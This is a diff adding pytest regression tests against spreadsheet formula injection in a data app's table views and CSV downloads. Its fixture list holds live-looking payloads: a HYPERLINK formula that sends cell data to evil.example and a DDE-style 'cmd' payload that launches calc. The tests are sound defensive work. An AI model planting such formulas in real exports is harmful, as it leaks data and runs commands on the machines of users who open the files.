@@ -6,6 +6,7 @@ Grouped by point: the as-of date limited to the data, ... (one test per finding)
 from __future__ import annotations
 
 import datetime as dt
+import shutil
 
 import pandas as pd
 import pytest
@@ -18,7 +19,7 @@ from insight_engine.export import inert_markdown
 from insight_engine.loader import load_folder, load_sql, source_engine, write_sql
 from insight_engine.store import InsightStore, StoreUnavailableError
 from tests.fixtures import AS_OF, book_dir
-from tests.helpers import open_app
+from tests.helpers import PAGES, open_app
 
 # --- 7. The as-of date is limited to the usage's dates ----------------------------------------
 
@@ -328,3 +329,57 @@ def test_new_as_of_dates_keep_a_bounded_number_of_books_in_memory():
     alive = [o for o in gc.get_objects() if isinstance(o, Book) and folder in o.source]
     # each kept date: the book as read, and the same book with its insight log
     assert len(alive) <= 2 * BOOKS_KEPT, len(alive)
+
+
+# --- 1. No spreadsheet formula leaves through a grid's own "Download as CSV" ----------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A2,"Open")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+]
+RISKY = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _formula_book(tmp_path):
+    folder = tmp_path / "formula-book"
+    shutil.copytree(book_dir("full"), folder)
+    acc = pd.read_csv(folder / "accounts.csv", dtype=str, keep_default_na=False)
+    for i, formula in enumerate(FORMULAS):
+        acc.loc[i, "account_name"] = formula
+    acc.to_csv(folder / "accounts.csv", index=False)
+    ins = pd.read_csv(folder / "insights.csv", dtype=str, keep_default_na=False)
+    ins["one_liner"] = [FORMULAS[i % len(FORMULAS)] for i in range(len(ins))]
+    ins.to_csv(folder / "insights.csv", index=False)
+    return folder
+
+
+def test_pages_show_tables_only_through_the_formula_safe_grid():
+    from tests.conftest import ROOT
+
+    offenders = [
+        f"{path.relative_to(ROOT)}:{n}"
+        for path in (ROOT / "pages").rglob("*.py")
+        if path.name != "ui.py"
+        for n, line in enumerate(path.read_text().splitlines(), 1)
+        if ".dataframe(" in line
+    ]
+    assert not offenders, f"use ui.grid (formula-safe) instead of st.dataframe: {offenders}"
+
+
+@pytest.mark.parametrize("page", PAGES)
+def test_no_displayed_cell_starts_like_a_formula(page, tmp_path):
+    folder = _formula_book(tmp_path)
+    at = open_app(page, session={"source": {"kind": "folder", "path": str(folder)}})
+    shown = 0
+    for element in at.dataframe:
+        frame = element.value
+        for column in frame.columns:
+            values = frame[column]
+            if values.dtype == object or pd.api.types.is_string_dtype(values):
+                text = values.dropna().astype(str)
+                shown += int(text.str.contains("HYPERLINK|SUM\\(", regex=True).sum())
+                assert not text.str.startswith(RISKY).any(), (page, column, text.head(3).tolist())
+    if page == "pages/library/insight_library.py":
+        assert shown, "the formula-named accounts or insights are on this page, made safe"
